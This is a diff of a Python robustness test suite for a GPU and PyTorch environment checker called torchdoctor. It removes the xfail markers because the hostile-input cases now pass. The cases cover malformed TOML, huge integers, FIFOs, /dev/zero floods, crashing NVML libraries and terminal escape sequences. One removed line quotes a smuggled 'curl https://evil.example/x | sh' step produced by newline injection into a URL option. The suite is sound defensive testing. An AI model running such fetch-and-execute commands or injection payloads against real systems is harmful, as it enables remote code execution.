@@ -7,8 +7,8 @@ and how much memory the run may take, and any assertion of its own. test_hostile
 every case shares: no Traceback, no "internal error", no raw control character on stdout or stderr (a
 ``json_stdout`` case's stdout must parse as JSON instead), nothing of the run left alive after it ended.
 
-``xfail`` holds what the case does on today's code when it fails; the test is then
-``xfail(strict=True)``, so a fix that makes it pass must delete that line.
+``xfail`` would hold what a case does today when it fails (the test is then ``xfail(strict=True)``, so
+a fix that makes it pass must delete that line). Every case passes since issue 14: none is set.
 """
 
 from __future__ import annotations
@@ -174,19 +174,19 @@ def _pyproject(ctx: Ctx, data: bytes) -> list:
     return check(ctx)
 
 
-@case("pyproject-not-utf8", "crash", exits=(1, 2), xfail="exit 3: UnicodeDecodeError from tomllib")
+@case("pyproject-not-utf8", "crash", exits=(1, 2))
 def _(ctx):
     """./pyproject.toml in Latin-1 (not UTF-8) with a [tool.torchdoctor] table: ignored or one line, exit 1/2."""
     return _pyproject(ctx, b'[tool.torchdoctor]\nrequire = ["cpu"]\n# caf\xe9\n')
 
 
-@case("pyproject-utf16", "crash", exits=(1, 2), xfail="exit 3: UnicodeDecodeError from tomllib")
+@case("pyproject-utf16", "crash", exits=(1, 2))
 def _(ctx):
     """./pyproject.toml saved as UTF-16 with a BOM (PowerShell's `>`)."""
     return _pyproject(ctx, '[tool.torchdoctor]\nrequire = ["cpu"]\n'.encode("utf-16"))
 
 
-@case("pyproject-deeply-nested", "crash", exits=(1, 2), xfail="exit 3: RecursionError from tomllib")
+@case("pyproject-deeply-nested", "crash", exits=(1, 2))
 def _(ctx):
     """./pyproject.toml whose [tool.torchdoctor] holds an array nested 100,000 deep."""
     return _pyproject(ctx, b"[tool.torchdoctor]\nx = " + b"[" * 100_000 + b"]" * 100_000 + b"\n")
@@ -196,14 +196,13 @@ def _(ctx):
     "pyproject-huge-int",
     "crash",
     exits=(1, 2, 4),
-    xfail="exit 3: ValueError, integer string over 4300 digits",
 )
 def _(ctx):
     """./pyproject.toml with `min-gpus = <5000 digits>`."""
     return _pyproject(ctx, f"[tool.torchdoctor]\nmin-gpus = {HUGE}\n".encode())
 
 
-@case("config-not-utf8", "crash", exits=(2,), xfail="exit 3: UnicodeDecodeError from tomllib")
+@case("config-not-utf8", "crash", exits=(2,))
 def _(ctx):
     """`--config` naming a Latin-1 pyproject.toml: a usage error, exit 2."""
     path = ctx.write("conf/pyproject.toml", b'[tool.torchdoctor]\nrequire = ["cpu"]\n# caf\xe9\n')
@@ -214,8 +213,6 @@ def _(ctx):
     "driver-env-huge-int",
     "crash",
     exits=(1, 2),
-    xfail="exit 0: the RTX 5090 error is lost; "
-    "internal-rule-error warnings in rules gpu-arch and python (ValueError, over 4300 digits)",
 )
 def _(ctx):
     """TORCHDOCTOR_DRIVER_VERSION=<5000 digits>.1: refused (exit 2) or ignored; the RTX 5090 error stays."""
@@ -227,7 +224,6 @@ def _(ctx):
     "smi-banner-huge-driver-cuda-na",
     "crash",
     exits=(1, 2),
-    xfail="exit 3: ValueError, integer string over 4300 digits",
 )
 def _(ctx):
     """nvidia-smi's banner says `Driver Version: <5000 digits>.1  CUDA Version: N/A`."""
@@ -239,8 +235,6 @@ def _(ctx):
     "report-huge-driver",
     "crash",
     exits=(1, 2),
-    xfail="exit 0: internal-rule-error warnings in rules "
-    "gpu-arch and python (ValueError, over 4300 digits); the RTX 5090 error is lost",
 )
 def _(ctx):
     """`--from` a report whose driver version is <5000 digits>.1."""
@@ -255,7 +249,6 @@ def _(ctx):
     "collect-env-huge-driver",
     "crash",
     exits=(1, 2),
-    xfail="exit 3: ValueError, integer string over 4300 digits",
 )
 def _(ctx):
     """`--from` collect_env text whose `Nvidia driver version:` is <5000 digits>.1."""
@@ -269,8 +262,6 @@ def _(ctx):
     "report-huge-python-version",
     "crash",
     exits=(1, 2),
-    xfail="exit 0: internal-rule-error warnings "
-    "in rules gpu-arch and python (ValueError, over 4300 digits); the RTX 5090 error is lost",
 )
 def _(ctx):
     """`--from` a report whose interpreter version is 3.<5000 digits>."""
@@ -285,7 +276,6 @@ def _(ctx):
     "collect-env-huge-python-version",
     "crash",
     exits=(1, 2),
-    xfail="exit 0: internal-rule-error warnings (ValueError, over 4300 digits); the RTX 5090 error is lost",
 )
 def _(ctx):
     """`--from` collect_env text whose `Python version:` is 3.<5000 digits>."""
@@ -312,7 +302,6 @@ def _(ctx):
     "table-huge-patch",
     "crash",
     exits=(1, 2),
-    xfail="exit 3: ValueError, integer string over 4300 digits, while loading the table",
 )
 def _(ctx):
     """`--table` whose torch 2.6 release lists a patch 2.6.<5000 digits>."""
@@ -326,14 +315,13 @@ def _(ctx):
     "torch-spec-huge",
     "crash",
     exits=(2, 4),
-    xfail="exit 3: ValueError, integer string over 4300 digits (packaging's specifier)",
 )
 def _(ctx):
     """`--torch '>=<5000 digits>'`: a usage error or an unmet requirement."""
     return check(ctx, "--torch", ">=" + HUGE)
 
 
-@case("min-gpu-memory-huge", "crash", exits=(2, 4), xfail="exit 3: OverflowError, float infinity to integer")
+@case("min-gpu-memory-huge", "crash", exits=(2, 4))
 def _(ctx):
     """`--min-gpu-memory <5000 digits>GB`."""
     return check(ctx, "--min-gpu-memory", HUGE + "GB")
@@ -345,7 +333,6 @@ for _value in ("nan", "inf", "1e308"):
         f"distributed-timeout-{_value}",
         "crash",
         exits=(2,),
-        xfail="exit 3: 'cannot convert float NaN/infinity to integer' from the subprocess timeout (selectors.py)",
     )
     def _(ctx, _value=_value):
         """`distributed --timeout <non-finite or huge>`: a usage error before anything starts."""
@@ -358,8 +345,6 @@ for _value in ("inf", "1e308"):
         f"smoke-timeout-{_value}",
         "crash",
         exits=(2,),
-        xfail="exit 1: 'internal error in the runtime probe: OverflowError: cannot convert float infinity "
-        "to integer' (smoke-failed finding)",
     )
     def _(ctx, _value=_value):
         """`check --smoke-timeout <non-finite or huge>`: a usage error."""
@@ -384,7 +369,6 @@ def _fleet_dir(ctx: Ctx, **changes) -> Path:
     "fleet-rich-markup",
     "crash",
     exits=(0, 1),
-    xfail="exit 3: MarkupError: closing tag '[/]' at position 10 has nothing to close",
 )
 def _(ctx):
     """`fleet summarize` of a report whose GPU name, driver and torch version contain `[/]` and `[bold]`."""
@@ -403,7 +387,6 @@ def _(ctx):
     "fleet-output-is-folder",
     "crash",
     exits=(2,),
-    xfail="exit 3: IsADirectoryError: [Errno 21] Is a directory",
 )
 def _(ctx):
     """`fleet summarize -o <a folder>`: one line, exit 2."""
@@ -415,7 +398,6 @@ def _(ctx):
     "fleet-output-missing-parent",
     "crash",
     exits=(0, 1, 2),
-    xfail="exit 3: FileNotFoundError: [Errno 2] No such file or directory",
 )
 def _(ctx):
     """`fleet summarize -o missing/dir/summary.md`: created, or one line and exit 2."""
@@ -430,28 +412,28 @@ def _(ctx):
     ]
 
 
-@case("nvml-segfault-on-load", "crash", exits=(1,), xfail="killed by SIGSEGV (exit -11), no output at all")
+@case("nvml-segfault-on-load", "crash", exits=(1,))
 def _(ctx):
     """A libnvidia-ml.so.1 whose constructor segfaults: NVML is a failed probe; nvidia-smi still answers."""
     ctx.nvml(load="segv")
     return check(ctx)
 
 
-@case("nvml-abort-on-load", "crash", exits=(1,), xfail="killed by SIGABRT (exit -6), no output at all")
+@case("nvml-abort-on-load", "crash", exits=(1,))
 def _(ctx):
     """A libnvidia-ml.so.1 whose constructor calls abort()."""
     ctx.nvml(load="abort")
     return check(ctx)
 
 
-@case("nvml-segfault-in-init", "crash", exits=(1,), xfail="killed by SIGSEGV (exit -11), no output at all")
+@case("nvml-segfault-in-init", "crash", exits=(1,))
 def _(ctx):
     """A libnvidia-ml.so.1 whose nvmlInitWithFlags segfaults."""
     ctx.nvml(init="segv")
     return check(ctx)
 
 
-@case("nvml-abort-in-init", "crash", exits=(1,), xfail="killed by SIGABRT (exit -6), no output at all")
+@case("nvml-abort-in-init", "crash", exits=(1,))
 def _(ctx):
     """A libnvidia-ml.so.1 whose nvmlInitWithFlags calls abort()."""
     ctx.nvml(init="abort")
@@ -463,8 +445,6 @@ def _(ctx):
     "crash",
     exits=(1,),
     json_stdout=True,
-    xfail="the library's line 'fake libnvidia-ml: hello from the constructor' comes first on stdout: "
-    "--json output is not JSON",
 )
 def _(ctx):
     """A libnvidia-ml.so.1 that writes to fd 1 when loaded: `check --json` stdout must still be one JSON document."""
@@ -490,7 +470,6 @@ def _(ctx):
     exits=(0, 1),
     max_seconds=10,
     limit=15,
-    xfail="reads the whole flood: past 600 MB RSS within seconds (killed by the guard; 6 GB and 30 s on 0.1.0)",
 )
 def _(ctx):
     """An nvidia-smi that prints its banner line forever (`yes`): < 10 s and < 300 MB RSS."""
@@ -505,7 +484,6 @@ def _(ctx):
     exits=(2,),
     max_seconds=5,
     limit=10,
-    xfail="reads /dev/zero to the end: past 600 MB RSS (killed by the guard)",
 )
 def _(ctx):
     """`check --from /dev/zero`: one line, exit 2, at once."""
@@ -518,7 +496,6 @@ def _(ctx):
     exits=(2,),
     max_seconds=5,
     limit=10,
-    xfail="reads /dev/urandom to the end: past 600 MB RSS (killed by the guard)",
 )
 def _(ctx):
     """`check --from /dev/urandom`: one line, exit 2, at once."""
@@ -531,7 +508,6 @@ def _(ctx):
     exits=(2,),
     max_seconds=5,
     limit=6,
-    xfail="blocks forever in open() of the FIFO (killed by the guard at 6 s)",
 )
 def _(ctx):
     """`check --from <a FIFO nobody writes>`: one line, exit 2."""
@@ -553,7 +529,6 @@ def _(ctx):
     exits=(0, 1, 2),
     max_seconds=5,
     limit=6,
-    xfail="blocks forever in open() of the FIFO (killed by the guard at 6 s)",
 )
 def _(ctx):
     """`fleet summarize <folder>` holding reports and a FIFO named *.json."""
@@ -580,7 +555,6 @@ def _sysroot(ctx: Ctx, relative: str, kind: str) -> list:
     exits=(0, 1),
     max_seconds=8,
     limit=9,
-    xfail="blocks forever opening <sysroot>/proc/version (killed by the guard at 9 s)",
 )
 def _(ctx):
     """TORCHDOCTOR_SYSROOT whose proc/version is a FIFO."""
@@ -593,7 +567,6 @@ def _(ctx):
     exits=(0, 1),
     max_seconds=8,
     limit=10,
-    xfail="reads <sysroot>/proc/version -> /dev/zero without a limit: past 600 MB RSS (killed by the guard)",
 )
 def _(ctx):
     """TORCHDOCTOR_SYSROOT whose proc/version links to /dev/zero."""
@@ -606,7 +579,6 @@ def _(ctx):
     exits=(0, 1),
     max_seconds=8,
     limit=9,
-    xfail="blocks forever opening <sysroot>/proc/meminfo (killed by the guard at 9 s)",
 )
 def _(ctx):
     """TORCHDOCTOR_SYSROOT whose proc/meminfo is a FIFO."""
@@ -625,7 +597,6 @@ def _(ctx):
     exits=(0, 1),
     max_seconds=8,
     limit=9,
-    xfail="blocks forever opening <sysroot>/sys/module/nvidia/version (killed by the guard at 9 s)",
 )
 def _(ctx):
     """No nvidia-smi, and TORCHDOCTOR_SYSROOT whose sys/module/nvidia/version is a FIFO."""
@@ -639,8 +610,6 @@ def _(ctx):
     exits=(0, 1),
     max_seconds=8,
     limit=10,
-    xfail="reads <sysroot>/sys/module/nvidia/version -> /dev/zero without a limit: past 600 MB RSS "
-    "(killed by the guard)",
 )
 def _(ctx):
     """No nvidia-smi, and TORCHDOCTOR_SYSROOT whose sys/module/nvidia/version links to /dev/zero."""
@@ -654,7 +623,6 @@ def _(ctx):
     exits=(1, 2),
     max_seconds=5,
     limit=6,
-    xfail="quadratic fence search: still running at 6 s on 2 MB (killed by the guard; 29 s on 0.1.0)",
 )
 def _(ctx):
     """A 2 MB Markdown paste: `report_schema_version` once, then ```json + `{` fences never closed."""
@@ -672,8 +640,6 @@ def _(ctx):
     "report-driver-version-list",
     "wrong",
     exits=(1, 2),
-    xfail="exit 0: the list crashes rules gpu-arch and python (internal-rule-error warnings, TypeError: "
-    "unhashable type: 'list') and the RTX 5090 error is dropped",
 )
 def _(ctx):
     """`--from` a report whose driver_version value is a list: rejected (exit 2) or still the RTX 5090 error."""
@@ -685,7 +651,6 @@ def _(ctx):
     "driver-env-not-a-version",
     "wrong",
     exits=(1, 2),
-    xfail="accepted: shown as 'Driver    abc · supports CUDA ≤ 12.8 (nvidia-smi)'",
 )
 def _(ctx):
     """TORCHDOCTOR_DRIVER_VERSION=abc: refused (exit 2), never shown as a driver version from nvidia-smi."""
@@ -700,24 +665,9 @@ def _fail(message: str):
     raise AssertionError(message)
 
 
-for _value, _why in (
-    ("-1", "Driver 'none (unknown: nvidia-smi did not answer within -1s (a hung driver?))'"),
-    ("0", "Driver 'none (unknown: nvidia-smi did not answer within 0s (a hung driver?))'"),
-    (
-        "nan",
-        "Driver 'none (unknown: internal error in the nvidia probe: ValueError: cannot convert float NaN "
-        "to integer)'",
-    ),
-    (
-        "inf",
-        "Driver 'none (unknown: internal error in the nvidia probe: OverflowError: cannot convert float "
-        "infinity to integer)'",
-    ),
-):
+for _value in ("-1", "0", "nan", "inf"):
 
-    @case(
-        f"nvidia-timeout-{_value}", "wrong", exits=(1, 2), xfail=f"exit 0: {_why}; the RTX 5090 error is lost"
-    )
+    @case(f"nvidia-timeout-{_value}", "wrong", exits=(1, 2))
     def _(ctx, _value=_value):
         """TORCHDOCTOR_NVIDIA_TIMEOUT set to an impossible value: refused (exit 2) or ignored; the fake
         nvidia-smi's driver is still found and nothing says the driver hangs."""
@@ -736,7 +686,6 @@ for _value, _why in (
     "wrong",
     exits=(1,),
     json_stdout=True,
-    xfail="torch-not-installed (and no gpu-arch-unsupported): the inspector fails on the 5000-digit literal",
 )
 def _(ctx):
     """torch/version.py says `debug = <5000 digits>`: torch 2.6.0+cu126 is still found (not torch-not-installed)."""
@@ -752,7 +701,6 @@ def _(ctx):
     "wrong",
     exits=(0,),
     json_stdout=True,
-    xfail="exit 1: torchvision-mismatch and torchaudio-mismatch against the installed 2.7.1+cu128",
 )
 def _(ctx):
     """torchvision/torchaudio requiring `torch==2.7.1+cu128` beside torch 2.7.1+cu128: no mismatch, exit 0."""
@@ -775,7 +723,6 @@ def _(ctx):
     "pip-leftover-tilde-folders",
     "wrong",
     exits=(1,),
-    xfail="exit 1 (torchvision-mismatch), but nothing in the output mentions the ~orch leftovers",
 )
 def _(ctx):
     """What an interrupted `fix` left on 0.1.0: torch 2.7.1+cu128 beside torchvision 0.21.0+cu126 (which
@@ -802,9 +749,7 @@ def _(ctx):
 # ==================================================================================================
 
 
-@case(
-    "smi-gpu-name-escapes", "inject", exits=(1,), xfail="the GPU name's ESC ]0; and ESC [2J reach stdout raw"
-)
+@case("smi-gpu-name-escapes", "inject", exits=(1,))
 def _(ctx):
     """nvidia-smi names the GPU with OSC/CSI sequences, CR and BS."""
     write_fake_nvidia_smi(ctx.bin_dir(), [dict(RTX5090, name="NVIDIA GeForce RTX 5090" + ESCAPES)])
@@ -815,7 +760,6 @@ def _(ctx):
     "smi-error-escapes",
     "inject",
     exits=(1,),
-    xfail="nvidia-smi's error text reaches stdout raw (ESC ]0;, ESC [2J)",
 )
 def _(ctx):
     """nvidia-smi fails with an error text carrying escape sequences."""
@@ -830,7 +774,6 @@ def _(ctx):
     "nvml-gpu-name-escapes",
     "inject",
     exits=(1,),
-    xfail="the NVML GPU name's escape sequences reach stdout raw",
 )
 def _(ctx):
     """NVML names the GPU with escape sequences."""
@@ -838,7 +781,7 @@ def _(ctx):
     return check(ctx, "-v")
 
 
-@case("nvml-error-escapes", "inject", exits=(0, 1), xfail="NVML's error string reaches stdout raw (ESC [2J)")
+@case("nvml-error-escapes", "inject", exits=(0, 1))
 def _(ctx):
     """NVML init fails with an unknown code whose nvmlErrorString carries escape sequences; no nvidia-smi."""
     ctx.nvml(init="77", error="NVML broke" + ESCAPES)
@@ -850,7 +793,6 @@ def _(ctx):
     "from-report-escapes",
     "inject",
     exits=(1, 2),
-    xfail="GPU name, path and host from the report reach stdout raw",
 )
 def _(ctx):
     """`--from` a report whose GPU name, interpreter path, nvidia detail and host name carry escape sequences."""
@@ -865,9 +807,7 @@ def _(ctx):
     return ["check", "-v", "--from", ctx.write("r.json", data)]
 
 
-@case(
-    "from-collect-env-escapes", "inject", exits=(0, 1, 2), xfail="the GPU model and OS text reach stdout raw"
-)
+@case("from-collect-env-escapes", "inject", exits=(0, 1, 2))
 def _(ctx):
     """`--from` collect_env text whose GPU model and OS lines carry escape sequences."""
     text = COLLECT_ENV.read_text().replace("NVIDIA GeForce RTX 5090 D", "NVIDIA GeForce RTX 5090 D" + ESCAPES)
@@ -886,7 +826,6 @@ def _odd_python(ctx: Ctx, name: str) -> Path:
     "python-path-escapes",
     "inject",
     exits=(1, 2),
-    xfail="the --python path's escape sequences reach stdout raw",
 )
 def _(ctx):
     """`--python` names an interpreter whose file name carries escape sequences."""
@@ -897,8 +836,6 @@ def _(ctx):
     "python-path-tab",
     "inject",
     exits=(1, 2),
-    xfail="the tab in the path is printed as spaces: the "
-    "printed path and the printed pip command name another file",
 )
 def _(ctx):
     """`--python` path with a TAB: printed so that it names the same file (escaped or quoted), never as spaces."""
@@ -911,7 +848,6 @@ def _(ctx):
     "index-url-base-escapes",
     "inject",
     exits=(1, 2),
-    xfail="the URL's escape sequences reach stdout raw in the plan",
 )
 def _(ctx):
     """`fix --dry-run --index-url-base` with escape sequences: refused (exit 2) or shown escaped."""
@@ -930,7 +866,6 @@ def _(ctx):
     "index-url-base-newline",
     "inject",
     exits=(1, 2),
-    xfail="the newline splits the command: a line 'step 2/2: curl https://evil.example/x | sh' is printed",
 )
 def _(ctx):
     """`fix --dry-run --index-url-base` with a newline and a fake step: no printed line starts with it."""
@@ -951,9 +886,7 @@ def _(ctx):
     ]
 
 
-@case(
-    "table-version-escapes", "inject", exits=(1, 2), xfail="table_version's escape sequences reach stdout raw"
-)
+@case("table-version-escapes", "inject", exits=(1, 2))
 def _(ctx):
     """`--table` whose table_version carries escape sequences: refused (exit 2) or shown escaped."""
     table = json.loads(TABLE.read_text())
@@ -963,7 +896,7 @@ def _(ctx):
 
 for _fmt in ("text", "markdown"):
 
-    @case(f"fleet-escapes-{_fmt}", "inject", exits=(0, 1), xfail="report values reach the fleet summary raw")
+    @case(f"fleet-escapes-{_fmt}", "inject", exits=(0, 1))
     def _(ctx, _fmt=_fmt):
         """`fleet summarize` of reports whose GPU name, driver, torch build and host carry escape sequences."""
         folder = _fleet_dir(
@@ -1002,7 +935,7 @@ def _(ctx):
     return ["check", "--from", ctx.write("r.json", data), "--format", "markdown"]
 
 
-@case("cuda-visible-devices-escapes", "inject", exits=(0, 1), xfail="the variable's value reaches stdout raw")
+@case("cuda-visible-devices-escapes", "inject", exits=(0, 1))
 def _(ctx):
     """CUDA_VISIBLE_DEVICES holding escape sequences (a hazard finding quotes it)."""
     ctx.env["CUDA_VISIBLE_DEVICES"] = "0," + ESCAPES
@@ -1020,7 +953,6 @@ def _(ctx):
     exits=(2,),
     max_seconds=5,
     limit=10,
-    xfail="reads --table /dev/zero to the end: past 600 MB RSS (killed by the guard)",
 )
 def _(ctx):
     """`--table /dev/zero`: a broken table, one line, exit 2."""
@@ -1033,7 +965,6 @@ def _(ctx):
     exits=(2,),
     max_seconds=5,
     limit=6,
-    xfail="blocks forever opening the --table FIFO (killed by the guard at 6 s)",
 )
 def _(ctx):
     """`--table <a FIFO nobody writes>`: one line, exit 2."""
@@ -1047,7 +978,6 @@ def _(ctx):
     exits=(1, 2),
     max_seconds=5,
     limit=6,
-    xfail="blocks forever opening GITHUB_STEP_SUMMARY, a FIFO (killed by the guard at 6 s)",
 )
 def _(ctx):
     """`--format github` with GITHUB_STEP_SUMMARY naming a FIFO nobody reads: annotations, then one line."""
@@ -1062,7 +992,6 @@ def _(ctx):
     exits=(1, 2),
     max_seconds=5,
     limit=10,
-    xfail="reads /dev/zero to the end: past 600 MB RSS (killed by the guard)",
 )
 def _(ctx):
     """`fleet summarize /dev/zero <a report>`: /dev/zero listed as unreadable."""
@@ -1075,7 +1004,6 @@ def _(ctx):
     exits=(1, 2),
     max_seconds=25,
     limit=30,
-    xfail="keeps the inspector's whole output: past 600 MB RSS within seconds (killed by the guard)",
 )
 def _(ctx):
     """`--python` names an 'interpreter' that prints forever (`yes`): the inspector's limit, bounded memory."""
@@ -1089,7 +1017,6 @@ def _(ctx):
     exits=(1,),
     max_seconds=15,
     limit=20,
-    xfail="keeps the smoke child's whole output: past 600 MB RSS within seconds (killed by the guard)",
 )
 def _(ctx):
     """torch's import prints forever: the smoke test's own limit (--smoke-timeout 5), bounded memory."""
@@ -1110,7 +1037,6 @@ for _n in ("0", "-1", "1000"):
         f"distributed-nproc-{_n}",
         "usage",
         exits=(2,),
-        xfail="exit 1: torchrun is started anyway ('torchrun ... produced no report')",
     )
     def _(ctx, _n=_n):
         """`distributed --nproc-per-node` <= 0 or above the CPUs/GPUs here: exit 2 before anything starts."""
@@ -1123,7 +1049,6 @@ for _value in ("0", "-1"):
         f"distributed-timeout-{_value}",
         "usage",
         exits=(2,),
-        xfail="exit 1: torchrun is started anyway ('torchrun ... produced no report')",
     )
     def _(ctx, _value=_value):
         """`distributed --timeout` <= 0: exit 2 before anything starts."""
@@ -1144,4 +1069,4 @@ def _(ctx):
     return check(ctx, "--min-gpus", "-1")
 
 
-del _value, _n, _fmt, _why
+del _value, _n, _fmt
